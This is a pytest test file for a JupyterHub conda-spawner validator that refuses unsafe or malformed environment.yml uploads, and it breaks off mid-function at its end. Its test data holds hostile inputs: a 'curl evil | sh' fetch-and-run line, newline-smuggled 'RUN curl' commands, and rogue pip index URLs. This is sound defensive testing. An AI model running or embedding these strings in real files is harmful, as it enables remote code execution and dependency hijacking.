"""EnvironmentSpec: parsing, policy, limits, normalisation and the key."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
import yaml
from packaging.requirements import Requirement

from jupyterhub_condaspawner.spec import (
    EnvironmentSpec,
    SpecError,
    SpecPolicy,
    parse_environment,
)

CORPUS = Path(__file__).parent / "corpus"

# Each hostile file and a fragment its one-line error must contain (the field or the reason).
HOSTILE = {
    "alias-in-dependencies.yml": "anchors and aliases",
    "bad-matchspec.yml": "dependencies[0] (line 3): 'numpy>>=1.0' is not a valid conda spec (MatchSpec:",
    "bidi-override.yml": "invisible character (U+202E)",
    "billion-laughs.yml": "anchors and aliases",
    "channel-default-typo.yml": "'default' is not an allowed channel (did you mean 'defaults'?)",
    "channel-key-typo.yml": "line 1: unknown key 'channel' (did you mean 'channels'?)",
    "channel-abs-path.yml": "channels[0] (line 2): '/srv/channel' is a URL or a path",
    "channel-file-path.yml": "'file:///srv/channel' is a URL or a path",
    "channel-not-allowed.yml": "'some-random-user' is not an allowed channel; allowed channels: conda-forge",
    "channel-url.yml": "'https://evil.example/conda' is a URL or a path",
    "comments-only.yml": "file is empty",
    "conda-mapping-not-pip.yml": "only a 'pip:' list may appear here, found 'npm'",
    "custom-tag.yml": "YAML tags are not allowed ('!mytag')",
    "dependencies-empty.yml": "dependencies (line 3): no dependencies",
    "deep-nesting.yml": "YAML nesting deeper than 10 levels",
    "dependencies-not-list.yml": "dependencies (line 2): must be a list",
    "duplicate-key.yml": "duplicate key 'dependencies'",
    "empty-entry.yml": "dependencies[0] (line 3): expected text, found an empty entry",
    "empty.yml": "file is empty",
    "int-entry.yml": "dependencies[0] (line 3): '42' is read by YAML as the number 42, not text: quote it",
    "invalid-yaml.yml": "invalid YAML at line 1, column 9",
    "latin1.yml": "file is not UTF-8",
    "long-package-name.yml": "is 150 characters, longer than 100",
    "long-spec.yml": "characters, longer than 200",
    "many-problems.yml": "channels[0] (line 3): 'my-own-channel' is not an allowed channel",
    "multiple-documents.yml": "invalid YAML at line 2",
    "nested-dependency.yml": "expected text, found a nested list or mapping",
    "newline-injection.yml": "control or invisible character (U+000A)",
    "number-entry.yml": "dependencies[1] (line 4): '3.10' is read by YAML as the number 3.1, not text: quote it",
    "nul-byte.yml": "NUL bytes",
    "pip-direct-reference.yml": "pip[0] (line 4): 'mypkg @ https://example.com/mypkg-1.0.tar.gz': URLs",
    "pip-hash-malformed.yml": "dependencies[1].pip[0] (line 5): 'requests==2.31.0 --hash=md5:0123': --hash must be",
    "pip-hash-partial.yml": "dependencies[1].pip[1] (line 6): has no --hash while pip[0] has one",
    "pip-hash-unpinned.yml": "dependencies[1].pip[0] (line 5): 'requests>=2': a requirement with --hash needs "
                             "an exact pin",
    "pip-pytorch-extra-index.yml": "pip[0] (line 5): '--extra-index-url https://download.pytorch.org/whl/cu121': "
                                   "PyTorch's own index cannot be used here; install PyTorch with conda instead: "
                                   "channels pytorch and nvidia, dependencies pytorch, pytorch-cuda=12.1",
    "pip-torch-local-version.yml": "'torch==2.0.1+cu118': versions with '+cu118' exist only on PyTorch's own index",
    "pip-editable.yml": "pip options",
    "pip-empty-arbitrary-equality.yml": "dependencies[0].pip[0] (line 4): 'requests===' has an operator with no version",
    "pip-extra-index-url.yml": "pip options",
    "pip-find-links.yml": "pip options",
    "pip-git-url.yml": "URLs and version-control references are not allowed",
    "pip-index-url.yml": "dependencies[1].pip[0] (line 5): '--index-url https://evil.example/simple': pip options",
    "pip-local-path.yml": "local paths are not allowed",
    "pip-option-after-name.yml": "pip options",
    "pip-requirements-file.yml": "pip options",
    "pip-shell-pipe.yml": "shell character '&'",
    "pip-single-equals.yml": "(pip pins with '==', not '=')",
    "pip-trusted-host.yml": "pip options",
    "python-object-tag.yml": "YAML tags are not allowed",
    "shell-backticks.yml": "shell character '`'",
    "shell-semicolon.yml": "shell character ';'",
    "shell-subst.yml": "shell character '$'",
    "spec-parenthetical-comment.yml": "dependencies[0] (line 3): 'scipy=1.11.4 (important, later version)': "
                                      "'(important, later version)' is not a build string",
    "spec-trailing-dot.yml": "dependencies[0] (line 3): 'numpy=1.26.': the version ends with '.'",
    "spec-channel-not-allowed.yml": "'evil-channel' is not an allowed channel",
    "spec-channel-url.yml": "names its channel by URL or path",
    "terminal-colours.yml": "line 5, column 5: the file contains the character U+001B (a control character), "
                            "which YAML does not allow: remove it",
    "top-level-list.yml": "the top level must be a mapping",
    "two-pip-sections.yml": "a second 'pip:' section",
    "typo-dependancies.yml": "unknown key 'dependancies' (did you mean 'dependencies'?)",
    "utf16.yml": "UTF-16 or UTF-32; save it as UTF-8",
    "variable-bad-name.yml": "'BAD NAME' is not a valid environment variable name",
    "windows-export.yml": "dependencies (line 7): a Windows export (pywin32, vc, vs2015_runtime exist only for "
                          "Windows): export the environment with `conda env export --from-history`",
    "yaml-list-after-key.yml": "invalid YAML at line 1, column 7: a '- item' cannot follow the key 'name' on its "
                               "line: put a list on the lines below 'name:', or write a single value (a name) there "
                               "without '- '",
    "yaml-missing-colon.yml": "invalid YAML at line 4, column 1: 'dependencies' needs a ':' after it",
    "yaml-tab-indent.yml": "invalid YAML at line 3, column 1: a tab character: indent with spaces",
    "yaml-unclosed-bracket.yml": "invalid YAML at line 2, column 15: the '[' opened here is never closed",
}


def parse(text: str | bytes, **policy) -> EnvironmentSpec:
    return SpecPolicy(**policy).parse(text)


def refusal(text: str | bytes, **policy) -> str:
    with pytest.raises(SpecError) as info:
        SpecPolicy(**policy).parse(text, source="env.yml")
    return str(info.value)


def test_every_hostile_file_has_an_expectation():
    assert sorted(HOSTILE) == sorted(p.name for p in (CORPUS / "hostile").iterdir())


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_file_is_refused_with_one_clear_line(name):
    data = (CORPUS / "hostile" / name).read_bytes()
    started = time.perf_counter()
    with pytest.raises(SpecError) as info:
        SpecPolicy().parse(data, source=name)
    elapsed = time.perf_counter() - started
    message = str(info.value)
    assert message.startswith(f"{name}: ")
    assert HOSTILE[name] in message
    assert "\n" not in message and "Traceback" not in message
    assert all(len(line) < 400 and "\n" not in line for line in info.value.details)
    assert elapsed < 1.0  # generous: only guards against pathological blowups (billion laughs)


@pytest.mark.parametrize("path", sorted((CORPUS / "good").iterdir()), ids=lambda p: p.name)
def test_real_world_syntax_is_accepted(path):
    spec = parse(path.read_bytes())
    assert len(spec.key()) == 64


def test_conda_specs_canonical_sorted_and_deduplicated():
    spec = parse("channels: [conda-forge]\ndependencies: [scipy, numpy=1.26, 'numpy 1.26.*', Pandas>=2]")
    assert spec.conda == ("numpy 1.26.*", "pandas >=2", "scipy")


def test_odd_but_valid_conda_specs_keep_their_meaning():
    spec = parse((CORPUS / "good" / "conda-spec-syntax.yml").read_bytes())
    assert "numpy ==1.11|==1.12" in spec.conda
    assert "libblas * *openblas" in spec.conda
    assert "pytorch >=2.0.0 *cuda112*" in spec.conda
    assert "conda-forge/linux-64::cupy" in spec.conda
    assert "bwa ==0.7.17" in spec.conda
    assert spec.channels == ("conda-forge", "nodefaults")


def test_pip_requirements_canonical_and_sorted():
    spec = parse(
        "dependencies:\n - pip:\n   - Foo_Bar[B,a]>=1.0,<2\n   - 'types-PyYAML'\n"
        "   - requests >=2 ;python_version<'3.8'\n"
    )
    assert spec.pip == ("foo-bar[a,b]<2,>=1.0", 'requests>=2; python_version < "3.8"', "types-pyyaml")


def test_pip_extras_keep_their_written_separators():
    """pip before 23.3 looks an extra up by its written name: `save_movie` must not become `save-movie`."""
    spec = parse("dependencies:\n - pip:\n   - PySurfer[Save_Movie]\n")
    assert spec.pip == ("pysurfer[save_movie]",)


@pytest.mark.parametrize("entry", ["https://files.example/x/cs-gamma-0.5-0.conda", "file:///srv/cs-gamma-0.5-0.tar.bz2",
                                   "'cs-gamma[url=http://127.0.0.1:8000/cs-gamma-0.5-0.conda]'",
                                   "/tmp/cs-gamma-0.5-0.tar.bz2"])
def test_a_conda_package_given_by_url_or_file_is_refused(entry):
    """A direct URL names no channel: the solve would fetch it from wherever it points."""
    with pytest.raises(SpecError) as refused:
        parse(f"dependencies:\n  - {entry}\n")
    assert str(refused.value).startswith("dependencies[0] (line 2): ")
    assert "is a package URL or file; name the package (such as 'numpy=1.26') from an allowed channel (" in str(
        refused.value)


@pytest.mark.parametrize("text, message", [
    # two names read as one spec: pandas would be dropped
    ("dependencies:\n  - numpy pandas\n", "dependencies[0] (line 2): 'numpy pandas' reads as numpy version 'pandas': "
                                           "put each package on a '- ' line of its own"),
    # an unquoted entry YAML folded from several lines: a next entry's '- ' missing, or indented further
    ("dependencies:\n  - numpy\n    pandas\n", "dependencies[0] (line 2): 'numpy pandas': it goes on to line 3: "
                                               "is a '- ' missing there?"),
    ("dependencies:\n  - python=3.9\n    pandas\n",  # would read as python's build string, and validate
     "dependencies[0] (line 2): 'python=3.9 pandas': it goes on to line 3: is a '- ' missing there?"),
    ("dependencies:\n  - numpy >=1.26,\n    <2\n    pandas\n",
     "dependencies[0] (line 2): 'numpy >=1.26, <2 pandas': it goes on to line 4: is a '- ' missing there?"),
    ("dependencies:\n  - python=3.9\n   - numpy\n",
     "dependencies[0] (line 2): 'python=3.9 - numpy': line 3 is indented further than the entries above it, and "
     "YAML reads it as part of this one: indent its '- ' as theirs"),
    ("dependencies:\n  - numpy\n\n    pandas\n", "dependencies[0] (line 2): 'numpy\\npandas': it goes on to line 4: "
                                                 "is a '- ' missing there?"),
    ("dependencies:\n  - pip\n  - pip:\n    - requests==2.31\n      flask\n",
     "dependencies[1].pip[0] (line 4): 'requests==2.31 flask': it goes on to line 5: is a '- ' missing there?"),
    ("dependencies:\r  - python=3.9\r    pandas\r",  # a lone CR is a line break to YAML too
     "dependencies[0] (line 2): 'python=3.9 pandas': it goes on to line 3: is a '- ' missing there?"),
    ("dependencies:\n  - numpy >=1.26,\n    pandas\n",  # a ',' then a name: not a wrapped constraint
     "dependencies[0] (line 2): 'numpy >=1.26, pandas': it goes on to line 3: is a '- ' missing there?"),
    ("dependencies: [python=3.9, numpy\n   pandas]\n",
     "dependencies[1] (line 1): 'numpy pandas': it goes on to line 2: is a ',' missing before it?"),
    ("dependencies: [nodefaults::numpy]",
     "dependencies[0] (line 1): 'nodefaults::numpy': nodefaults is not a channel to take a package from; write 'numpy'"),
    # what a recipe writer would type
    ("dependencies:\n  - numpy\n  - pywin32  # [win]\n",
     "dependencies (line 3): pywin32 exists only for Windows: remove it (selectors such as `# [win]` are comments "
     "in an environment.yml)"),
    ("dependencies: ['numpy [linux]']",
     "dependencies[0] (line 1): 'numpy [linux]' is not a valid conda spec (MatchSpec: invalid bracket); '[linux]' is "
     "a conda-build selector, not part of a spec: remove it"),
    ("dependencies:\n  - !!str 3.10\n", "line 2: YAML tags are not allowed ('tag:yaml.org,2002:str') (quote the "
                                          "value instead: '3.10')"),
    # a single ':' is conda's rarely used namespace: `pip:requests` would install conda's requests
    ("dependencies:\n  - numpy\n  - pip:requests\n",
     "dependencies[1] (line 3): 'pip:requests': a pip section is '- pip:' with its packages listed on the lines "
     "below it"),
    ("dependencies: ['numpy:1.26']",
     "dependencies[0] (line 1): 'numpy:1.26': a single ':' has no meaning in a conda spec: write 'numpy=1.26' for "
     "a version, or 'channel::package' for a channel"),
    # `- pip` without its ':': YAML folds the list below into the entry
    ("dependencies:\n  - pip\n    - requests\n",
     "dependencies[0] (line 2): 'pip - requests' goes on to line 3: is the ':' of '- pip:' missing?"),
    # a spec written as a mapping (`numpy: 1.26`, as in pixi or poetry)
    ("dependencies:\n  - numpy: 1.26\n", "dependencies[0] (line 2): 'numpy: 1.26' is read by YAML as a mapping (a "
                                          "':' then a space): write 'numpy=1.26'"),
    ("dependencies:\n  - scipy: '>=1.11'\n", "dependencies[0] (line 2): 'scipy: >=1.11' is read by YAML as a "
                                              "mapping (a ':' then a space): write 'scipy>=1.11'"),
    ("dependencies: [numpy=latest]",
     "dependencies[0] (line 1): 'numpy=latest': 'latest' is not a version (versions have digits): write 'numpy' "
     "for any version"),
])
def test_a_slip_is_refused_with_a_hint_of_what_to_do(text, message):
    with pytest.raises(SpecError) as refused:
        parse(text)
    assert str(refused.value) == message


def test_entries_a_yaml_writer_wrapped_are_read_whole_whatever_their_length():
    """PyYAML breaks a plain scalar at a space once past column 80, counted from the line's start."""
    for length in range(60, 130):
        marker = "; " + " and ".join(["python_version >= '3.8'"] * 6)
        requirement = ("a" * max(1, length - len(marker) - 10)) + marker
        text = yaml.safe_dump({"dependencies": ["pip", {"pip": [requirement]}]})
        assert parse(text).pip == (str(Requirement(requirement)),), (length, text)


def test_a_pip_option_on_the_next_line_belongs_to_the_requirement():
    spec = parse("dependencies:\n  - pip\n  - pip:\n    - requests==2.31.0\n      --hash=sha256:" + "a" * 64 + "\n")
    assert spec.pip == ("requests==2.31.0 --hash=sha256:" + "a" * 64,)


def test_a_long_spec_wrapped_mid_constraint_is_read_as_one():
    spec = parse("dependencies:\n  - numpy >=1.26,\n    <2\n  - scipy >=1.11\n    ,<2\n  - pip\n  - pip:\n"
                 "    - requests >=2.0\n      ; python_version >= '3.8'\n")
    assert spec.conda == ("numpy >=1.26,<2", "pip", "scipy >=1.11,<2")
    assert spec.pip == ('requests>=2.0; python_version >= "3.8"',)


def test_versions_builds_and_globs_are_not_taken_for_package_names():
    spec = parse("dependencies: ['numpy 1.*', 'r-base *', 'pytorch=2.0.1=py3.10_cuda11.8_cudnn8.7.0_0', 'scipy>=1.2']")
    assert spec.conda == ("numpy 1.*", "pytorch ==2.0.1 py3.10_cuda11.8_cudnn8.7.0_0", "r-base *", "scipy >=1.2")


@pytest.mark.parametrize("name", ["foo-1.0-py3-none-any.whl", "numpy-1.26.4-cp39-cp39-manylinux2014_x86_64.whl",
                                  "evil.tar.gz", "pkg.zip"])
def test_a_pip_line_that_names_a_file_is_refused(name):
    """pip installs `foo-1.0-py3-none-any.whl` on a requirements line from the local file."""
    with pytest.raises(SpecError) as refused:
        parse(f"dependencies:\n - pip:\n   - {name}\n")
    assert str(refused.value) == (f"dependencies[0].pip[0] (line 3): {name!r}: local files are not allowed; name the "
                                  "package from the index (such as 'numpy==1.26.4')")


@pytest.mark.parametrize("line", ["git@github.com:org/tool.git", "git@gitlab.example.org:org/tool.git#egg=tool"])
def test_a_pip_line_in_gits_ssh_form_is_named_a_version_control_reference(line):
    assert refusal(f"dependencies:\n - pip:\n   - {line}\n").endswith(
        f"{line!r}: URLs and version-control references are not allowed; name a package from the index")


@pytest.mark.parametrize(
    "requirement",
    ["requests===", "requests>=", "requests >= ", "requests>=1.0,<", "requests[socks]~=",
     "requests== ; python_version > '3'"],
)
def test_an_operator_with_no_version_is_refused_by_the_validator_itself(requirement):
    # packaging accepts some of these (`requests===` in releases before 26) and refuses
    # others in words that change between releases: the refusal must not depend on it.
    message = refusal(f"dependencies:\n - pip:\n   - \"{requirement}\"\n")
    assert message == (f"env.yml: dependencies[0].pip[0] (line 3): {requirement.strip()!r} "
                       "has an operator with no version")


def test_pip_version_operators_with_versions_are_accepted():
    spec = parse("dependencies:\n - pip:\n   - requests===2.31.0\n   - 'idna>=3,<4'\n   - 'six (>=1.0)'\n")
    assert spec.pip == ("idna<4,>=3", "requests===2.31.0", "six>=1.0")


def test_channel_order_is_kept_and_duplicates_dropped():
    spec = parse("channels: [pytorch, nvidia, conda-forge, pytorch]\ndependencies: [numpy]")
    assert spec.channels == ("pytorch", "nvidia", "conda-forge")


def test_name_prefix_comments_and_whitespace_do_not_change_the_key():
    plain = parse("channels: [conda-forge]\ndependencies: [numpy, scipy]")
    decorated = parse(
        "# my env\nname: anything\nchannels:\n    - conda-forge   # main\n\ndependencies:\n"
        "- scipy\n- numpy\nprefix: /home/me/miniconda3/envs/x\n"
    )
    assert plain.key() == decorated.key()
    assert decorated.name == "anything"


def test_crlf_and_bom_are_accepted():
    assert parse(b"\xef\xbb\xbfchannels: [conda-forge]\r\ndependencies: [numpy]\r\n").conda == ("numpy",)


def test_labels_and_defaults_members_follow_the_allowlist():
    spec = parse("channels: [conda-forge/label/dev, pkgs/main]\ndependencies: [numpy]")
    assert spec.channels == ("conda-forge/label/dev", "pkgs/main")
    assert "not an allowed channel" in refusal("channels: [pkgs/main]", allowed_channels=["conda-forge"])
    assert "not an allowed channel" in refusal("channels: [conda-forge/label/]")
    assert "not an allowed channel" in refusal("channels: [evil/label/dev]")


@pytest.mark.parametrize("label", ["..", "."])
def test_a_label_is_a_name_not_a_path_step(label):
    # The label goes into the channel's URL (MIRROR/label/LABEL): user text there is a name, never a path step.
    assert f"'conda-forge/label/{label}' is not an allowed channel" in refusal(
        f"channels: [conda-forge/label/{label}]\ndependencies: [numpy]")
    assert "names its channel by URL or path" in refusal(f"dependencies: ['conda-forge/label/{label}::numpy']")
    assert parse("channels: [conda-forge/label/rc..1]\ndependencies: [numpy]").channels == ("conda-forge/label/rc..1",)


def test_allowlist_is_configurable():
    spec = parse("channels: [my-lab]\ndependencies: [my-lab::tool]", allowed_channels=["my-lab"])
    assert spec.conda == ("my-lab::tool",)
    assert "allowed channels: my-lab" in refusal("channels: [conda-forge]", allowed_channels=["my-lab"])


def test_size_limit_counts_bytes_before_parsing():
    big = "channels: [conda-forge]\ndependencies:\n" + "".join(f"  - pkg{i}\n" for i in range(30000))
    assert "larger than the limit of 262144" in refusal(big)
    assert "larger than the limit of 100" in refusal("dependencies: [numpy]" + " " * 100, max_file_bytes=100)


def test_dependency_count_limit():
    text = "dependencies:\n" + "".join(f"  - pkg{i}\n" for i in range(11)) + "  - pip:\n    - one\n"
    assert "12 entries, more than the limit of 10" in refusal(text, max_dependencies=10)
    assert len(parse(text, max_dependencies=12).conda) == 11


def test_a_small_file_of_countless_values_stops_being_read_at_the_value_limit():
    # 131,000 one-letter entries fit in the size limit; reading them all held the hub's event
    # loop for about 9 s. Reading stops at 4 values a dependency (plus 100).
    flood = "dependencies: [" + ",".join(["a"] * 131_000) + "]"
    assert len(flood) < SpecPolicy().max_file_bytes
    assert refusal(flood) == ("env.yml: line 1: more than 4100 YAML values in the file: an environment lists at "
                              "most 1000 dependencies (the hub admin sets c.SpecPolicy.max_dependencies)")
    assert "more than 140 YAML values" in refusal("dependencies: [" + ",".join(["a"] * 200) + "]",
                                                  max_dependencies=10)
    # The largest file the limits allow still reads: 1,000 dependencies and 1,000 variables.
    largest = ("dependencies:\n" + "".join(f"  - pkg{i}\n" for i in range(1000))
               + "variables:\n" + "".join(f"  VAR{i}: x\n" for i in range(1000)))
    spec = parse(largest)
    assert len(spec.conda) == 1000 and len(spec.variables) == 1000


def test_a_name_is_one_printable_line():
    # It names the build in the hub's log and opens the build log.
    for name in ("x\\n ---> Running in 3f2a9b1c4d5e\\ny", "red\\e[31m", "tab\\there"):
        message = refusal(f'name: "{name}"\ndependencies: [numpy]\n')
        assert message.startswith("env.yml: name (line 1): ") and "contains a control or invisible character" \
            in message, message
    assert parse("name: my-env 2\ndependencies: [numpy]\n").name == "my-env 2"


def test_line_and_paragraph_separators_are_refused_in_every_entry():
    # str.splitlines (and so any reader of a log line by line) ends a line at them
    for separator in ("\\u2028", "\\u2029"):
        code = separator.replace("\\u", "U+").upper()
        assert code in refusal(f'dependencies: ["numpy{separator}RUN curl x"]')
        assert code in refusal(f'name: "x{separator} ---> Running in 3f2a9b1c4d5e"\ndependencies: [numpy]\n')
        assert code in refusal(f'dependencies: [numpy, {{pip: ["requests{separator}--index-url x"]}}]')
        assert code in refusal(f'dependencies: [numpy]\nvariables:\n  A: "x{separator}y"\n')


def test_spec_length_and_name_limits_are_configurable():
    assert "longer than 20" in refusal("dependencies:\n  - numpy >=1.0,<2.0,!=1.5\n", max_spec_length=20)
    assert "longer than 5" in refusal("dependencies: [abcdef]", max_name_length=5)


def test_yaml_depth_limit_is_configurable():
    text = "dependencies:\n  - pip:\n    - numpy\n"
    assert parse(text, max_yaml_depth=5).pip == ("numpy",)
    assert "nesting deeper than 4" in refusal(text, max_yaml_depth=4)


def test_variables_are_kept_as_text_and_part_of_the_key():
    spec = parse("dependencies: [numpy]\nvariables:\n  OMP_NUM_THREADS: 4\n  PATHX: $HOME:/x\n")
    assert dict(spec.variables) == {"OMP_NUM_THREADS": "4", "PATHX": "$HOME:/x"}
    assert spec.key() != parse("dependencies: [numpy]").key()
    assert "control or invisible" in refusal('dependencies: [numpy]\nvariables:\n  A: "x\\ny"\n')


def test_empty_sections_are_empty_but_dependencies_are_needed():
    spec = parse("name: x\nchannels:\nvariables:\ndependencies: [numpy]\n")
    assert spec == EnvironmentSpec(conda=("numpy",))
    assert refusal("name: x\nchannels:\ndependencies:\n") == (
        "env.yml: dependencies (line 3): no dependencies: list the packages under it ('- python=3.11')")
    assert refusal("name: x\ndependencies: []\n").startswith("env.yml: dependencies (line 2): no dependencies")
    assert refusal("name: x\n") == "env.yml: no dependencies: add a 'dependencies:' list of packages"


def test_control_characters_are_refused_before_matchspec_parses_them():
    # MatchSpec alone would read this as `numpy ==run[build="curl x"]`.
    assert "U+000A" in refusal('dependencies: ["numpy\\nRUN curl x"]')
    assert "U+0009" in refusal('dependencies: ["numpy\\t1.0"]')


def test_non_text_values_are_refused_with_the_field():
    assert "channels[0] (line 1): expected text" in refusal("channels: [[a]]\ndependencies: [numpy]")
    assert "channels (line 1): must be a list" in refusal("channels: conda-forge\n")
    assert "variables (line 1): must be a mapping" in refusal("variables: [a]\n")


def test_error_source_field_and_detail():
    with pytest.raises(SpecError) as info:
        parse_environment("dependencies: [numpy>>=1]", source="upload.yml")
    error = info.value
    assert error.source == "upload.yml"
    assert error.detail.startswith("dependencies[0] (line 1): ")
    assert str(error) == f"upload.yml: {error.detail}"


def test_long_values_are_truncated_in_messages():
    message = refusal("dependencies:\n  - " + "x" * 5000 + "\n", max_file_bytes=10**6)
    assert len(message) < 300 and "..." in message


def test_normalized_form_is_json_and_round_trips():
    spec = parse((CORPUS / "good" / "pip-markers-extras.yml").read_bytes())
    data = json.loads(spec.normalized_json())
    assert EnvironmentSpec.from_normalized(data) == spec
    assert EnvironmentSpec.from_normalized(data).key() == spec.key()


def test_to_yaml_reparses_to_the_same_spec():
    for path in (CORPUS / "good").iterdir():
        spec = parse(path.read_bytes())
        again = parse(spec.to_yaml(name="env"))
        assert again == spec and again.key() == spec.key()
        assert again.name == "env"


def test_parse_mapping_validates_like_text():
    policy = SpecPolicy()
    spec = policy.parse_mapping({"channels": ["conda-forge"], "dependencies": ["numpy", {"pip": ["rich"]}]})
    assert spec.conda == ("numpy",) and spec.pip == ("rich",)
    with pytest.raises(SpecError, match="unknown key 'dependancies'"):
        policy.parse_mapping({"dependancies": ["numpy"]})


def test_policy_reads_traitlets_config():
    from traitlets.config import Config

    config = Config()
    config.SpecPolicy.allowed_channels = ["lab"]
    config.SpecPolicy.max_dependencies = 1
    policy = SpecPolicy(config=config)
    assert policy.allowed_channels == ["lab"] and policy.max_dependencies == 1


# -- issue 14: unknown keys, every problem at once, pip hashes, hints, YAML places, leniencies ---------


def test_unknown_top_level_keys_are_ignored_with_a_note_and_typos_are_refused():
    spec = parse((CORPUS / "good" / "conda-lock-keys.yml").read_bytes())
    assert spec.notes == ("ignored: platforms, category, extras",)
    assert spec.key() == parse("channels: [conda-forge]\ndependencies: [python=3.11, numpy>=1.26]\n").key()
    assert parse("dependencies: [numpy]").notes == ()
    for typo, meant in (("dependancies", "dependencies"), ("Channels_", "channels"), ("variable", "variables")):
        message = refusal(f"{typo}: [numpy]\ndependencies: [numpy]\n")
        assert message.startswith(f"env.yml: line 1: unknown key {typo!r} (did you mean {meant!r}?)")


def test_an_ignored_key_is_never_used_and_its_note_is_printable():
    spec = parse('dependencies: [numpy]\npost_install: curl evil | sh\n"odd\\tkey": 1\n')
    assert spec.notes == ("ignored: post_install, odd?key",)
    assert "post_install" not in spec.to_yaml() and "curl" not in spec.normalized_json()
    # line and paragraph separators end a line for splitlines() as a newline does
    assert parse('dependencies: [numpy]\n"a\\u2028b": 1\n"c\\u2029d": 2\n').notes == ("ignored: a?b, c?d",)


def test_a_file_of_many_unknown_keys_gets_a_short_note():
    keys = "".join(f"zz{number:03d}: 1\n" for number in range(500))
    spec = parse(f"dependencies: [numpy]\n{keys}")
    assert spec.notes == ("ignored: " + ", ".join(f"zz{number:03d}" for number in range(10)) + " and 490 more",)


def test_every_problem_of_a_file_is_reported_at_once():
    with pytest.raises(SpecError) as info:
        SpecPolicy().parse((CORPUS / "hostile" / "many-problems.yml").read_bytes(), source="f.yml")
    fields = [problem.field for problem in info.value.problems]
    assert fields == ["channels[0] (line 3)", "channels[1] (line 4)", "channels[2] (line 5)",
                      "dependencies[1].pip[0] (line 9)"]
    assert len(info.value.details) == 4 and info.value.omitted == 0
    assert str(info.value) == "f.yml: 4 problems: " + "; ".join(info.value.details)


def test_problems_across_sections_and_entries_are_all_collected():
    text = ("channels: [evil]\ndependencies:\n  - numpy>>=1\n  - 42\n  - pip:\n    - -e .\n    - ok-pkg\n"
            "    - ../local\nvariables:\n  BAD NAME: 1\n  GOOD: 2\ndependancies: [x]\n")
    with pytest.raises(SpecError) as info:
        SpecPolicy().parse(text)
    details = info.value.details
    assert [d.split(":", 1)[0] for d in details] == [
        "line 12", "channels[0] (line 1)", "dependencies[0] (line 3)", "dependencies[1] (line 4)",
        "dependencies[2].pip[0] (line 6)", "dependencies[2].pip[2] (line 8)", "variables (line 10)"]


def test_the_number_of_problems_is_capped_and_the_rest_counted():
    text = "dependencies:\n" + "".join(f"  - bad{i}>>=1\n" for i in range(30))
    with pytest.raises(SpecError) as info:
        SpecPolicy(max_problems=5).parse(text)
    assert len(info.value.problems) == 5 and info.value.omitted == 25
    assert info.value.details[-1] == "... and 25 more problems"
    with pytest.raises(SpecError) as info:
        SpecPolicy().parse(text)
    assert len(info.value.problems) == 20 and info.value.omitted == 10


def test_pip_hashes_are_allowed_and_normalised():
    spec = parse((CORPUS / "good" / "pip-hashes.yml").read_bytes())
    idna, requests = spec.pip
    assert requests == ("requests==2.31.0 "
                        "--hash=sha256:58cd2187c01e70e6e26505bca751777aa9f2ee0b7f4300988b709f44e013003f")
    assert idna.startswith("idna==3.6 --hash=sha256:9ecd") and idna.count("--hash=") == 2  # sorted
    upper = parse("dependencies:\n - pip:\n   - Requests==2.31.0 --hash sha256:"
                  "58CD2187C01E70E6E26505BCA751777AA9F2EE0B7F4300988B709F44E013003F\n")
    assert upper.pip == (requests,)


def test_a_top_level_pip_list_is_noted_as_installing_nothing_with_where_it_goes():
    spec = parse("channels: [conda-forge]\ndependencies: [numpy]\npip:\n  - requests\n")
    assert spec.pip == ()  # as conda: a top-level key it does not know is ignored
    assert spec.notes == ("ignored: pip", "a top-level 'pip:' installs nothing: put it under dependencies, "
                                          "as '- pip:' followed by its list")


def test_a_pasted_pip_compile_continuation_is_told_to_go_on_one_line():
    # pip-compile --generate-hashes writes `requests==2.31.0 \` and the hashes on the next lines;
    # YAML folds them into one entry with the backslash in it, which pip cannot read.
    digest = "58cd2187c01e70e6e26505bca751777aa9f2ee0b7f4300988b709f44e013003f"
    message = refusal(f"dependencies:\n - pip:\n   - requests==2.31.0 \\\n     --hash=sha256:{digest}\n")
    assert message.startswith("env.yml: dependencies[0].pip[0] (line 3): 'requests==2.31.0 \\\\ --hash"), message
    assert message.endswith("'\\' continues a line in a requirements file, not in an environment.yml: write the "
                            "requirement and its --hash options on one line, without '\\'"), message
    assert parse(f"dependencies:\n - pip:\n   - requests==2.31.0 --hash=sha256:{digest}\n").pip


@pytest.mark.parametrize("line", [
    "requests==2.31.0 --hash=sha256:abc",  # too short for sha256
    "requests==2.31.0 --hash=md5:" + "0" * 32,
    "requests==2.31.0 --hash=sha256:" + "0" * 64 + " --no-deps",
    "requests==2.31.0 --no-deps --hash=sha256:" + "0" * 64,
    # pip splits at " --" inside a marker's quotes too: an index URL would reach pip
    'cs-x; python_version == "x --index-url http://127.0.0.1:9/simple y"',
])
def test_only_well_formed_hashes_pass_and_other_options_stay_refused(line):
    message = refusal(f"dependencies:\n - pip:\n   - {line}\n")
    assert "dependencies[0].pip[0] (line 3)" in message
    assert "--hash must be" in message or "pip options" in message


def test_an_allowed_channel_given_by_its_anaconda_url_is_told_to_use_its_name():
    assert "channels[0] (line 1): 'https://conda.anaconda.org/conda-forge/' is a URL or a path: write its name, " \
        "'conda-forge';" in refusal("channels: ['https://conda.anaconda.org/conda-forge/']\ndependencies: [numpy]")
    assert "'https://evil.example/conda-forge' is a URL or a path; allowed" in \
        refusal("channels: ['https://evil.example/conda-forge']\ndependencies: [numpy]")


def test_channel_hints_name_the_near_channel_and_the_admin_setting():
    message = refusal("channels: [my-lab]\ndependencies: [numpy]", allowed_channels=["my-lab2", "conda-forge"])
    assert "'my-lab' is not an allowed channel (did you mean 'my-lab2'?)" in message
    assert "c.SpecPolicy.allowed_channels" in message
    assert "did you mean" not in refusal("channels: [fastai]\ndependencies: [numpy]")


def test_anaconda_defaults_on_a_hub_without_them_is_never_offered_nodefaults():
    # `conda env export` lists `defaults`; `nodefaults` means the opposite.
    without = ["conda-forge", "nodefaults"]
    for channel in ("defaults", "default", "pkgs/main"):
        message = refusal(f"channels: [conda-forge, {channel}]\ndependencies: [numpy]", allowed_channels=without)
        assert f"channels[1] (line 1): {channel!r} is not an allowed channel (this hub does not use Anaconda's " \
               "defaults channels: remove it); allowed channels: conda-forge, nodefaults" in message, message
    assert "(did you mean 'nodefaults'?)" in refusal("channels: [nodefault]\ndependencies: [numpy]",
                                                     allowed_channels=without)
    assert "did you mean" not in refusal("channels: [defautls]\ndependencies: [numpy]", allowed_channels=without)


def test_defaults_and_nodefaults_together_are_accepted_with_a_note_naming_the_channels_field():
    # `nodefaults` means "not defaults": which one the user meant is not known, and the listed one is used.
